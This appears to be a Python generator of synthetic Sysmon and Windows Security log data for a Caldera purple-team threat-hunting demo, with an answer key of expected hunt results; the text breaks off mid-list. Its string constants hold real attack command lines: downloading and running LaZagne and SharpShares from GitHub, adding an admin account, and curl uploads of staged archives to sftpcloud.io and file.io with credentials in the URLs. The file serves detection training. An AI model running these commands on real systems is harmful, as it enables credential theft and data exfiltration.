"""A deterministic demo bundle: the seed notebook's MITRE Caldera purple-team exercise.

The bundle is what stix-shifter's Splunk module (STIX 2.0 mode) returns for Sysmon and
Windows Security events of one Windows 10 host, ``WindowsTarget`` (10.0.0.5), whose logs go
Sysmon -> Splunk Universal Forwarder -> Splunk (192.168.1.4).  A Caldera server (10.0.0.4)
runs the Sandcat agent (``C:\\Users\\Public\\splunkd.exe``) on it.  The story, 2024-12-01 to
2024-12-24 (the demo clock is pinned to :data:`DEMO_NOW`, 2024-12-20T00:00:00Z, so the seed's
``LAST 15 DAYS`` / ``LAST 10 DAYS`` hunts hit it):

* 12-01  boot; ``it-support`` installs the Splunk forwarder (morning only).
* 12-02  ``inf808`` logs on and starts the Sandcat agent (pid 5784) from a PowerShell console.
* 12-03  T1016 discovery burst (cmd.exe 9636) and T1518.001 (powershell 3132 -> WMIC 10180).
* 12-04  T1518.001 again (powershell 11532, Get-WmiObject).
* 12-05  ``administrator`` (RDP from 10.0.0.4) runs an elevated agent (pid 6044) which adds
         local admin ``Alex`` / ``coucou`` (T1136, cmd.exe 7036).
* 12-06  ``Alex`` logs on and runs whoami.exe (6212); the agent downloads LaZagne from GitHub
         (powershell 5116, 2 connections to GitHub on 443).
* 12-10  Patch-Tuesday reboot; ``inf808`` starts a new agent (pid 7292).
* 12-11  SharpShares (powershell 8836 -> cmd 9416) and LaZagne (powershell 10624) downloads.
* 12-12  Staging and exfiltration: 7z (2400 -> 1304), curl to sftpcloud.io (3320 -> 10504,
         2692 -> 6764), a broken file.io cmd (2688), clean-up (11972).
* 12-13  ``inf808`` downloads Syscall.exe from GitHub in a PowerShell console (7840) that stays
         open until 12-16 and opens 9 connections to GitHub on 443.

Background noise: services (svchost, Defender, Sysmon, the real Splunk forwarder), the
user's Chrome/Teams/OneDrive/Office, DNS (Sysmon 22 and udp/53), SMB and LDAP to 10.0.0.10,
the web proxy 10.0.0.2:8080 (Chrome went direct to the Internet on 443 until 12-04 18:00),
Windows Update over port 80, LLMNR over IPv6, Sandcat beacons to 10.0.0.4:8888, registry
writes, logons (4624) and group-membership enumerations (4798).

Shape, as stix-shifter 8.x emits it (research/stix-shifter.md §4): a ``bundle`` with
``spec_version`` 2.0, the ``identity`` and one ``observed-data`` per event, each with an
embedded ``objects`` dict keyed "0", "1", ... whose ``*_ref``/``*_refs`` are those keys:
``x-oca-event`` (created, host_ref, module, code, action, provider, outcome, process_ref,
parent_process_ref, user_ref, file_ref, network_ref, ip_refs, domain_ref, registry_ref,
original_ref), ``x-oca-asset`` (hostname, ip_refs), ``x-splunk-data``, ``process`` (pid, name,
command_line, created, x_unique_id = Sysmon ProcessGuid, binary_ref, parent_ref,
creator_user_ref, x_original_file_name, opened_connection_refs), ``file``/``directory``,
``user-account`` (user_id), ``ipv4-addr``/``ipv6-addr``, ``network-traffic`` (src_ref,
dst_ref, src_port, dst_port, protocols ['ip', 'tcp'|'udp'], x_direction; DNS queries carry
only a ``dns-ext`` extension, as stix-shifter maps them), ``domain-name``,
``windows-registry-key`` and ``artifact`` (the base64 ``_raw`` event XML).  Like stix-shifter,
a parent process (from ``parent_process_*`` fields) has pid, name, command_line and a
name-only binary but no ``x_unique_id``; a file created by a process (``file_path``) gets a
directory whose path still holds the file name.

Everything is drawn from ``random.Random`` seeded with ``--seed``: the same seed and size give
the same bytes.  The facts the seed's hunts should find are in :data:`FACTS`.

CIM output: the same event stream (:func:`_iter_events`) is also written as the raw Windows
events (flat, OTRF shape, :func:`iter_raw_events`) turned into the rows Splunk returns with the
Splunk Add-on for Sysmon (:func:`stixgraph.splunk.cim.sysmon_to_cim`): :func:`iter_cim_rows`,
:func:`generate_cim`.  Row ``_raw`` is the bundle artifact's XML, ``_time`` its time stamp.

Usage: ``python -m stixgraph.demo.caldera OUT.json [--size N | --scale X] [--seed S] [--now ISO]``
and ``python -m stixgraph.demo.caldera OUT.jsonl[.gz] --format cim [--size N | --scale X]
[--seed S] [--index I]`` (``--scale X`` = X times the default size; ``--scale 200`` = 1M events)
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import heapq
import os
import random
import sys
import time
from datetime import datetime, timedelta, timezone
from typing import IO, Iterator
from xml.sax.saxutils import escape as _xml_escape

try:
    import orjson

    def _dumps(obj) -> bytes:
        return orjson.dumps(obj)
except ImportError:  # pragma: no cover - orjson is a dependency
    import json

    def _dumps(obj) -> bytes:
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False).encode()

UTC = timezone.utc

#: The demo's clock: run the example hunts with ``--now 2024-12-20T00:00:00Z``.
DEMO_NOW = datetime(2024, 12, 20, tzinfo=UTC)
STORY_START = datetime(2024, 12, 1, tzinfo=UTC)
STORY_STOP = datetime(2024, 12, 24, tzinfo=UTC)
DEFAULT_SIZE = 5000
DEFAULT_SEED = 808

HOSTNAME = "WindowsTarget"
HOST_IP = "10.0.0.5"
C2_IP = "10.0.0.4"  # Caldera server (Ubuntu)
SIEM_IP = "192.168.1.4"  # Splunk, stix-shifter, Kestrel
GATEWAY_IP = "10.0.0.1"  # DNS
PROXY_IP = "10.0.0.2"  # web proxy :8080
FILESERVER_IP = "10.0.0.10"  # SMB / LDAP
IDENTITY_ID = "identity--f431f809-377b-45e0-aa1c-6a4751cae5ff"
EXPORTED_AT = datetime(2024, 12, 24, 8, 0, tzinfo=UTC)  # created/modified of observed-data
PROXY_FROM = datetime(2024, 12, 4, 18, 0, tzinfo=UTC)  # Chrome goes through the proxy after

SYSMON_SOURCE = "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational"
SECURITY_SOURCE = "XmlWinEventLog:Security"

SYS32 = r"C:\Windows\System32"
WPS_DIR = r"C:\Windows\System32\WindowsPowerShell\v1.0"
STAGE = r"C:\Users\inf808\AppData\Local\inf808"
SANDCAT_DIR = r"C:\Users\Public"
SPLUNK_BIN = r"C:\Program Files\SplunkUniversalForwarder\bin"
DEFENDER = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0"
CHROME_DIR = r"C:\Program Files\Google\Chrome\Application"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
TEAMS_DIR = r"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe"
SID_INF808 = "S-1-5-21-3542116985-2831547710-1839201876-1001"
_SERVICING = (r"C:\Windows\WinSxS\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_"
              r"10.0.19041.5194_none_7e7d32bc7c6d1c3a")

GITHUB_IPS = ("140.82.114.3", "185.199.111.133", "185.199.111.154", "140.82.114.4",
              "140.82.112.4", "185.199.108.133")
SFTPCLOUD_IP = "18.196.122.57"  # eu-central-1.sftpcloud.io (FTP, port 21)

# -- the seed's command lines (notebook escapes undone: &amp; -> &, \$ -> $) ---------------
CMD_T1016 = ("cmd.exe /C ipconfig /all && netsh interface show interface && arp -a && "
             "nbtstat -n && net config")
PSH_T1518_WMIC = ('powershell.exe -ExecutionPolicy Bypass -C "wmic /NAMESPACE:\\\\root\\Security'
                  'Center2 PATH AntiVirusProduct GET /value"')
WMIC_T1518 = ('"C:\\Windows\\System32\\Wbem\\WMIC.exe" /NAMESPACE:\\\\root\\SecurityCenter2 PATH '
              'AntiVirusProduct GET /value')
PSH_T1518_WMI = (
    'powershell.exe -ExecutionPolicy Bypass -C "$NameSpace = Get-WmiObject -Namespace \\"root\\" '
    '-Class \\"__Namespace\\" | Select Name | Out-String -Stream | Select-String \\"SecurityCenter'
    '\\";$SecurityCenter = $NameSpace | Select-Object -First 1;Get-WmiObject -Namespace \\"root\\'
    '\\$SecurityCenter\\" -Class AntiVirusProduct | Select DisplayName, InstanceGuid, PathToSigne'
    'dProductExe, PathToSignedReportingExe, ProductState, Timestamp | Format-List;"')
PSH_INTERACTIVE = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"'
_STAGEDIR = ('$username = $env:USERNAME;$StageDir = \\"C:\\Users\\$username\\AppData\\Local\\'
             '$username\\";')
PSH_LAZAGNE = (
    'powershell.exe -ExecutionPolicy Bypass -C "' + _STAGEDIR + 'Invoke-WebRequest \\"https://gi'
    'thub.com/AlessandroZ/LaZagne/releases/download/v2.4.5/LaZagne.exe\\" -OutFile \\"$StageDir\\'
    'LaZagne.exe\\";cmd /c \\"$StageDir\\LaZagne.exe browsers > \\"$StageDir\\T1555003LaZagne_out'
    'put.txt\\"\\""')
PSH_SHARPSHARES = (
    'powershell.exe -ExecutionPolicy Bypass -C "' + _STAGEDIR + 'Invoke-WebRequest \\"https://gi'
    'thub.com/mitchmoser/SharpShares/releases/download/v2.4/SharpShares.exe\\" -OutFile \\"$Stage'
    'Dir\\SharpShares.exe\\";cmd /c `\\"$StageDir\\SharpShares.exe`\\" /ldap:all | out-file -file'
    'path \\"$StageDir\\T1135SharpSharesOutput.txt\\""')
CMD_SHARPSHARES = ('"C:\\Windows\\system32\\cmd.exe" /c "C:\\Users\\inf808\\AppData\\Local\\inf808'
                   '\\SharpShares.exe" /ldap:all')
CMD_LAZAGNE = ('"C:\\Windows\\system32\\cmd.exe" /c "C:\\Users\\inf808\\AppData\\Local\\inf808\\La'
               'Zagne.exe browsers > "C:\\Users\\inf808\\AppData\\Local\\inf808\\T1555003LaZagne_out'
               'put.txt""')
PSH_REMOVE = ('powershell.exe -ExecutionPolicy Bypass -C "remove-item \\"$StageDir\\T1135SharpShare'
              'sOutput.txt\\" -force -erroraction silentlycontinue"')
PSH_7Z = (
    'powershell.exe -ExecutionPolicy Bypass -C "' + _STAGEDIR + '& \\"C:\\Program Files\\7-Zip\\7z'
    '.exe\\" a \\"$StageDir\\StagedFiles.7z\\" \\"$StageDir\\*\\" \\"-p password\\" | Out-Null;sleep'
    ' 1;ls \\"$StageDir\\StagedFiles.7z\\" | foreach {$_.FullName} | select"')
SEVENZIP = ('"C:\\Program Files\\7-Zip\\7z.exe" a C:\\Users\\inf808\\AppData\\Local\\inf808\\Staged'
            'Files.7z C:\\Users\\inf808\\AppData\\Local\\inf808\\* "-p password"')
_FTP1 = "ftp://534c18bc0cab45b996304dc32ffbf4cf:nwg22fYoW5qE9ZApcEYZWU6pmJ1Q8OHh@eu-central-1.sftpcloud.io"
_FTP2 = "ftp://d9ed88e510ee4b82a05af32f15e571a5:v9Nbr0klPEwzie09OGLYZoAj2C4hYTUn@eu-central-1.sftpcloud.io"


def _psh_curl(url: str) -> str:
    return ('powershell.exe -ExecutionPolicy Bypass -C "$username = $env:USERNAME;$zipFilePath = '
            '\\"C:\\Users\\$username\\AppData\\Local\\$username\\StagedFiles.7z\\";& \\"C:\\Windows'
            '\\System32\\curl.exe\\" -T \\"$zipFilePath\\" \\"' + url + '\\";Start-Sleep -Seconds 2;"')


def _curl(url: str) -> str:
    return ('"C:\\Windows\\System32\\curl.exe" -T C:\\Users\\inf808\\AppData\\Local\\inf808\\Staged'
            'Files.7z ' + url)


CMD_FILEIO = ('cmd.exe /C set username=%%USERNAME%%cd /d C:\\Users\\%%username%%\\AppData\\Local\\%'
              '%username%%C:\\Windows\\System32\\Curl.exe -k -F "file=@StagedFiles.7z" https://file.io/')
CMD_T1136 = 'cmd.exe /C net user /add "Alex" "coucou" && net localgroup administrators "Alex" /add'
WHOAMI = '"C:\\Windows\\system32\\whoami.exe"'
SANDCAT_CMD = '"C:\\Users\\Public\\splunkd.exe" -server http://10.0.0.4:8888 -group red'
CONHOST_CMD = "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"

# Time stamps of the exfiltration (seed cell 191).
T_CURL1 = datetime(2024, 12, 12, 16, 43, 24, tzinfo=UTC)
T_7Z = datetime(2024, 12, 12, 17, 1, 24, tzinfo=UTC)
T_FILEIO = datetime(2024, 12, 12, 17, 2, 15, tzinfo=UTC)
T_CURL2 = datetime(2024, 12, 12, 17, 3, 1, tzinfo=UTC)
T_CURL2_NET = datetime(2024, 12, 12, 17, 3, 3, tzinfo=UTC)

# -- user accounts as stix-shifter maps them (CIM ``user`` -> user_id, ``user_id`` -> login) ---
USERS = {
    "SYSTEM": {"user_id": "SYSTEM"},
    # The seed shows this odd login, quotes included; it fixes the STIX 2.1 id it printed.
    "NETWORK SERVICE": {"user_id": "NETWORK SERVICE", "account_login": "'S-1-5-18'"},
    "inf808": {"user_id": "inf808"},
    "administrator": {"user_id": "administrator"},
    "Alex": {"user_id": "Alex"},
    "WindowsTarget$": {"user_id": "WindowsTarget$"},
    "it-support": {"user_id": "it-support"},
    "Guest": {"user_id": "Guest"},
    "DefaultAccount": {"user_id": "DefaultAccount"},
    "WDAGUtilityAccount": {"user_id": "WDAGUtilityAccount"},
}
_NT_AUTHORITY = ("SYSTEM", "NETWORK SERVICE")

# Fixed pids: the seed's, plus the ones FACTS names.  Noise never reuses them.
PID_AGENT_A, PID_AGENT_B, PID_AGENT_ADMIN = 5784, 7292, 6044
PID_T1136_CMD, PID_WHOAMI, PID_LAZAGNE1_PSH, PID_CONSOLE_PSH = 7036, 6212, 5116, 7840
RESERVED_PIDS = frozenset({
    9636, 9416, 3132, 11532, 10180, 11972, 2400, 10624, 8836, 10504, 3320, 1304, 2688, 6764,
    2692, PID_AGENT_A, PID_AGENT_B, PID_AGENT_ADMIN, PID_T1136_CMD, PID_WHOAMI,
    PID_LAZAGNE1_PSH, PID_CONSOLE_PSH})

# GitHub connections: (pid of the powershell, src_port, dst ip, time)
_GH = [
    (PID_LAZAGNE1_PSH, 54045, "140.82.114.3", datetime(2024, 12, 6, 15, 12, 31, tzinfo=UTC)),
    (PID_LAZAGNE1_PSH, 54046, "185.199.111.133", datetime(2024, 12, 6, 15, 12, 32, tzinfo=UTC)),
    (8836, 54268, "140.82.114.4", datetime(2024, 12, 11, 14, 5, 13, tzinfo=UTC)),
    (8836, 54269, "185.199.111.133", datetime(2024, 12, 11, 14, 5, 14, tzinfo=UTC)),
    (10624, 54493, "140.82.112.4", datetime(2024, 12, 11, 14, 20, 41, tzinfo=UTC)),
    (10624, 54494, "185.199.108.133", datetime(2024, 12, 11, 14, 20, 42, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54697, "140.82.112.4", datetime(2024, 12, 13, 9, 14, 2, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54701, "185.199.111.154", datetime(2024, 12, 13, 9, 14, 3, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54702, "185.199.111.154", datetime(2024, 12, 13, 9, 14, 5, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54734, "140.82.112.4", datetime(2024, 12, 13, 11, 30, 17, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54735, "185.199.111.154", datetime(2024, 12, 13, 11, 30, 18, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54851, "140.82.114.3", datetime(2024, 12, 16, 10, 5, 40, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54852, "185.199.108.133", datetime(2024, 12, 16, 10, 5, 41, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54915, "140.82.114.3", datetime(2024, 12, 16, 10, 40, 2, tzinfo=UTC)),
    (PID_CONSOLE_PSH, 54916, "185.199.111.133", datetime(2024, 12, 16, 10, 40, 3, tzinfo=UTC)),
]


def _iso(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + f"{t.microsecond // 1000:03d}Z"


#: What the seed's hunts (examples/hunts/*.hf) should find in the demo bundle, with the demo
#: clock at DEMO_NOW.  Pids are ints; "flows" are (src_port, dst ip) of network-traffic.
FACTS = {
    "now": _iso(DEMO_NOW),
    "story": [_iso(STORY_START), _iso(STORY_STOP)],
    "host": {"hostname": HOSTNAME, "ip": HOST_IP},
    # cell 9: GET process WHERE name = 'cmd.exe' AND command_line LIKE netsh|ipconfig|arp
    "t1016": {"cell": 9, "pids": [9636, 9416]},
    # cell 10: GET process WHERE command_line LIKE '%AntiVirusProduct%'
    "t1518": {"cell": 10, "pids": [3132, 11532, 10180]},
    # cells 222/214/223: GET network-traffic WHERE dst_ref.value NOT LIKE '10.%' AND
    # dst_port = 443 AND protocols[*] = 'ip' LAST 15 DAYS
    "nt_external_443": {
        "cells": [222, 214, 223], "entities": len(_GH),
        "flows": [[sport, dst] for _, sport, dst, _ in _GH],
        "dst_ips": sorted(set(GITHUB_IPS)),
    },
    # cell 214: ips = FIND ipv4-addr LINKED nt WHERE value != '10.0.0.5'
    "nt_ips": {"cell": 214, "values": sorted(set(GITHUB_IPS))},
    # cell 214: procs = FIND process CREATED nt; users = FIND user-account OWNED procs
    "nt_procs": {"cell": 214, "pids": [PID_CONSOLE_PSH, PID_LAZAGNE1_PSH, 10624, 8836],
                 "names": ["powershell.exe"], "owners": ["inf808"],
                 "parents": ["explorer.exe", "splunkd.exe"]},
    # cell 214: files = FIND file LINKED procs.  "names": the files in every observation of
    # those processes in the source (what the seed's Kestrel, with prefetch, shows: the same
    # names); "in_nt_observations": the files in the observations nt's GET returned (Kestrel
    # without prefetch, or an engine that only looks at what the GET brought in).
    "nt_proc_files": {"cell": 214, "names": sorted([
        "powershell.exe", "explorer.exe", "splunkd.exe", "LaZagne.exe", "SharpShares.exe",
        "Syscall.exe", "__PSScriptPolicyTest_zkwcrvyn.awj.ps1",
        "__PSScriptPolicyTest_nbbosa4w.b2j.ps1", "__PSScriptPolicyTest_fiwdnd5r.xzv.ps1"]),
        "in_nt_observations": ["powershell.exe"]},
    # cell 42: the two processes the suspiciousness scorer ranks above 0.9
    "susp": {"cell": 42, "pids": [PID_T1136_CMD, PID_WHOAMI], "names": ["cmd.exe", "whoami.exe"]},
    # cell 221: GET user-account WHERE user_id not in (SYSTEM, inf808, WDAGUtilityAccount,
    # DefaultAccount, Guest) START 2024-12-01T15:05:00Z STOP 2024-12-24T08:00:00Z
    "users": {"cell": 221, "user_ids": ["Alex", "NETWORK SERVICE", "WindowsTarget$", "administrator"],
              # the STIX 2.1 ids the seed printed (UUIDv5 of user_id [+ account_login])
              "ids": {"WindowsTarget$": "user-account--33ef3d36-6196-5d15-98e0-21f30495198e",
                      "administrator": "user-account--363f010b-1538-5356-915b-6bfee164d94f",
                      "Alex": "user-account--75f957b2-1c87-55dc-be2d-a8c656b61cff",
                      "NETWORK SERVICE": "user-account--cf862b07-072e-51d7-ada6-d1b5b424bd80"}},
    # cell 224: GET process WHERE command_line LIKE '%StageDir%' LAST 10 DAYS
    "procs_exfil": {"cell": 224, "pids": [11972, 2400, 10624, 8836]},
    # cell 224: FIND process CREATED procs_exfil; GROUP BY name
    "parent_procs_exfil": {"cell": 224, "names": ["splunkd.exe"], "pids": [PID_AGENT_B]},
    # cell 224: FIND network-traffic CREATED BY procs_exfil
    "nt_exfil": {"cell": 224, "flows": [[54269, "185.199.111.133"], [54268, "140.82.114.4"],
                                        [54494, "185.199.108.133"], [54493, "140.82.112.4"]]},
    # cell 191: GET process WHERE command_line LIKE '%StagedFiles.7z%' LAST 15 DAYS, and the
    # distinct (first_observed, pid, name) rows of DISP TIMESTAMPED(exfil_cmd)
    "exfil_cmd": {"cell": 191, "pids": [10504, 3320, 1304, 2400, 2688, 6764, 2692], "rows": [
        [_iso(T_CURL1), 10504, "curl.exe"], [_iso(T_CURL1), 3320, "powershell.exe"],
        [_iso(T_7Z), 1304, "7z.exe"], [_iso(T_7Z), 2400, "powershell.exe"],
        [_iso(T_FILEIO), 2688, "cmd.exe"], [_iso(T_CURL2), 6764, "curl.exe"],
        [_iso(T_CURL2), 2692, "powershell.exe"], [_iso(T_CURL2_NET), 6764, "curl.exe"]]},
    "sandcat": {"path": SANDCAT_DIR + r"\splunkd.exe", "c2": f"{C2_IP}:8888",
                "agents": {"inf808 (12-02..12-10)": PID_AGENT_A,
                           "administrator (12-05)": PID_AGENT_ADMIN,
                           "inf808 (12-10..12-13)": PID_AGENT_B}},
}


# ---------------------------------------------------------------------------------------------
# Processes and observations


class Proc:
    """A process as Sysmon sees it.  ``dir`` is '' for ``System`` (no image)."""

    __slots__ = ("pid", "guid", "name", "dir", "cmd", "user", "start", "parent", "ofn")

    def __init__(self, pid, guid, name, dir, cmd, user, start, parent=None, ofn=None):
        self.pid, self.guid, self.name, self.dir, self.cmd = pid, guid, name, dir, cmd
        self.user, self.start, self.parent, self.ofn = user, start, parent, ofn

    @property
    def path(self) -> str:
        return f"{self.dir}\\{self.name}" if self.dir else self.name


def _hashes(path: str) -> dict:
    p = path.lower().encode()
    return {"MD5": hashlib.md5(p).hexdigest().upper(),
            "SHA-256": hashlib.sha256(p).hexdigest().upper(),
            "x_IMPHASH": hashlib.md5(b"imp:" + p).hexdigest().upper()}


def _raw_user(name: str) -> str:
    return ("NT AUTHORITY\\" if name in _NT_AUTHORITY else "WINDOWSTARGET\\") + name


class _Obs:
    """One event being turned into an observed-data's ``objects`` (stix-shifter's layout:
    event "0", asset "1", x-splunk-data "2", host address "3", then the rest; the artifact
    holding ``_raw`` comes last, when the event is written)."""

    __slots__ = ("t", "objs", "keys", "ev", "sysmon", "eid", "data")

    def __init__(self, t: datetime, sysmon: bool, code: int, action: str, outcome: str):
        self.t, self.sysmon, self.eid, self.data = t, sysmon, code, []
        src = SYSMON_SOURCE if sysmon else SECURITY_SOURCE
        self.ev = {"type": "x-oca-event", "created": None, "host_ref": "1", "module": src,
                   "code": str(code), "action": action,
                   "provider": "Microsoft Sysmon" if sysmon else "Microsoft Windows",
                   "outcome": outcome}
        self.objs = {"0": self.ev,
                     "1": {"type": "x-oca-asset", "hostname": HOSTNAME, "ip_refs": ["3"]},
                     "2": {"type": "x-splunk-data", "log_source": src,
                           "log_source_type": "XmlWinEventLog"},
                     "3": {"type": "ipv4-addr", "value": HOST_IP}}
        self.keys = {("ip", HOST_IP): "3"}

    def add(self, obj: dict, key=None) -> str:
        if key is not None:
            found = self.keys.get(key)
            if found is not None:
                return found
        i = str(len(self.objs))
        self.objs[i] = obj
        if key is not None:
            self.keys[key] = i
        return i

    def ip(self, value: str) -> str:
        return self.add({"type": "ipv6-addr" if ":" in value else "ipv4-addr", "value": value},
                        ("ip", value))

    def user(self, name: str) -> str:
        obj = {"type": "user-account"}
        obj.update(USERS[name])
        ref = self.add(obj, ("user", name))
        self.ev["user_ref"] = ref
        return ref

    def binary(self, p: Proc, *, hashes: bool = False, with_dir: bool = True) -> str | None:
        if not p.dir:
            return None
        f = {"type": "file", "name": p.name}
        if with_dir:
            f["parent_directory_ref"] = self.add({"type": "directory", "path": p.dir},
                                                 ("dir", p.dir))
        if hashes:
            f["hashes"] = _hashes(p.path)
        return self.add(f, ("bin", p.path, with_dir, hashes))

    def process(self, p: Proc, *, full: bool = False) -> str:
        """The event's subject process: a full Sysmon 1 view (with parent) or the brief view
        of the other Sysmon events (pid, name, guid, image, user)."""
        uref = self.user(p.user)
        proc = {"type": "process", "pid": p.pid, "name": p.name}
        bref = self.binary(p, hashes=full)
        if bref:
            proc["binary_ref"] = bref
            self.ev["file_ref"] = bref
        if full:
            proc["command_line"] = p.cmd
            proc["created"] = _iso(p.start)
        proc["x_unique_id"] = p.guid
        proc["creator_user_ref"] = uref
        if full and p.ofn:
            proc["x_original_file_name"] = p.ofn
        ref = self.add(proc, ("proc", p.guid))
        self.ev["process_ref"] = ref
        if full and p.parent is not None:
            pp = p.parent
            parent = {"type": "process", "pid": pp.pid, "name": pp.name}
            pb = self.binary(pp, with_dir=False)
            if pb:
                parent["binary_ref"] = pb
            if pp.cmd:
                parent["command_line"] = pp.cmd
            pref = self.add(parent, ("parent", pp.guid))
            proc["parent_ref"] = pref
            self.ev["parent_process_ref"] = pref
        return ref


# ---------------------------------------------------------------------------------------------
# Catalogues for the background noise: (name, dir, command line, original file name)

_SVCHOST = SYS32 + r"\svchost.exe"
_BOOT = [  # key, name, dir, cmd, user, parent key, ofn
    ("smss", "smss.exe", SYS32, r"\SystemRoot\System32\smss.exe", "SYSTEM", "System", "smss.exe"),
    ("csrss", "csrss.exe", SYS32, r"%SystemRoot%\system32\csrss.exe ObjectDirectory=\Windows "
     r"SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 "
     r"ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off "
     r"MaxRequestThreads=16", "SYSTEM", "smss", "CSRSS.Exe"),
    ("wininit", "wininit.exe", SYS32, "wininit.exe", "SYSTEM", "smss", "WinInit.exe"),
    ("services", "services.exe", SYS32, r"C:\Windows\system32\services.exe", "SYSTEM", "wininit",
     "services.exe"),
    ("lsass", "lsass.exe", SYS32, r"C:\Windows\system32\lsass.exe", "SYSTEM", "wininit",
     "lsass.exe"),
    ("svc_dcom", "svchost.exe", SYS32, r"C:\Windows\system32\svchost.exe -k DcomLaunch -p",
     "SYSTEM", "services", "svchost.exe"),
    ("svc_rpcss", "svchost.exe", SYS32, r"C:\Windows\system32\svchost.exe -k RPCSS -p",
     "NETWORK SERVICE", "services", "svchost.exe"),
    ("svc_sched", "svchost.exe", SYS32, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
     "SYSTEM", "services", "svchost.exe"),
    ("svc_dns", "svchost.exe", SYS32,
     r"C:\Windows\system32\svchost.exe -k NetworkService -p -s Dnscache", "NETWORK SERVICE",
     "services", "svchost.exe"),
    ("svc_wmi", "svchost.exe", SYS32, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt",
     "SYSTEM", "services", "svchost.exe"),
    ("svc_term", "svchost.exe", SYS32,
     r"C:\Windows\System32\svchost.exe -k NetworkService -s TermService", "NETWORK SERVICE",
     "services", "svchost.exe"),
    ("svc_lanman", "svchost.exe", SYS32,
     r"C:\Windows\System32\svchost.exe -k NetworkService -p -s LanmanWorkstation",
     "NETWORK SERVICE", "services", "svchost.exe"),
    ("svc_wu", "svchost.exe", SYS32, r"C:\Windows\system32\svchost.exe -k netsvcs -p -s wuauserv",
     "SYSTEM", "services", "svchost.exe"),
    ("svc_bits", "svchost.exe", SYS32, r"C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS",
     "SYSTEM", "services", "svchost.exe"),
    ("svc_sysmain", "svchost.exe", SYS32,
     r"C:\Windows\system32\svchost.exe -k LocalSystemNetworkRestricted -p -s SysMain", "SYSTEM",
     "services", "svchost.exe"),
    ("spoolsv", "spoolsv.exe", SYS32, r"C:\Windows\System32\spoolsv.exe", "SYSTEM", "services",
     "spoolsv.exe"),
    ("msmpeng", "MsMpEng.exe", DEFENDER, f'"{DEFENDER}\\MsMpEng.exe"', "SYSTEM", "services",
     "MsMpEng.exe"),
    ("sysmon", "Sysmon64.exe", r"C:\Windows", r"C:\Windows\Sysmon64.exe", "SYSTEM", "services",
     "Sysmon.exe"),
    ("searchidx", "SearchIndexer.exe", SYS32, r"C:\Windows\system32\SearchIndexer.exe /Embedding",
     "SYSTEM", "services", "SearchIndexer.exe"),
]
_SPLUNKD_FWD = ("splunkd_fwd", "splunkd.exe", SPLUNK_BIN, f'"{SPLUNK_BIN}\\splunkd.exe" service',
                "SYSTEM", "services", "splunkd.exe")
_SESSION = [  # started at the user's logon: key, name, dir, cmd, parent key, ofn
    ("sihost", "sihost.exe", SYS32, "sihost.exe", "svc_dcom", "sihost.exe"),
    ("explorer", "explorer.exe", r"C:\Windows", r"C:\Windows\Explorer.EXE", "userinit",
     "EXPLORER.EXE"),
    ("ctfmon", "ctfmon.exe", SYS32, r'"ctfmon.exe"', "svc_dcom", "CTFMON.EXE"),
    ("runtimebroker", "RuntimeBroker.exe", SYS32, r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
     "svc_dcom", "RuntimeBroker.exe"),
    ("onedrive", "OneDrive.exe", r"C:\Users\{u}\AppData\Local\Microsoft\OneDrive",
     r'"C:\Users\{u}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background', "explorer",
     "OneDrive.exe"),
    ("teams", "ms-teams.exe", TEAMS_DIR, f'"{TEAMS_DIR}\\ms-teams.exe" msteams:system-initiated',
     "explorer", "ms-teams.exe"),
    ("chrome", "chrome.exe", CHROME_DIR, f'"{CHROME_DIR}\\chrome.exe"', "explorer", "chrome.exe"),
]
# short-lived processes of the services: parent key, user, name, dir, cmd template, ofn
_SVC_CHILDREN = [
    ("svc_sched", "SYSTEM", "taskhostw.exe", SYS32, "taskhostw.exe SYSTEM", "taskhostw.exe"),
    ("svc_dcom", "NETWORK SERVICE", "WmiPrvSE.exe", SYS32 + r"\wbem",
     r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", "Wmiprvse.exe"),
    ("svc_dcom", "SYSTEM", "WmiPrvSE.exe", SYS32 + r"\wbem",
     r"C:\Windows\system32\wbem\wmiprvse.exe -Embedding", "Wmiprvse.exe"),
    ("svc_dcom", "SYSTEM", "dllhost.exe", SYS32,
     r"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
     "dllhost.exe"),
    ("searchidx", "SYSTEM", "SearchProtocolHost.exe", SYS32,
     '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe{n}_ '
     'Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646 "Software\\Microsoft\\Windows '
     'Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
     '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"',
     "SearchProtocolHost.exe"),
    ("searchidx", "SYSTEM", "SearchFilterHost.exe", SYS32,
     '"C:\\Windows\\system32\\SearchFilterHost.exe" 0 {n} 812 820 {bf8b9f15-2a5c-4cf3-8ab6-'
     '8b6b9d1f1c50}', "SearchFilterHost.exe"),
    ("svc_sched", "SYSTEM", "MpCmdRun.exe", DEFENDER,
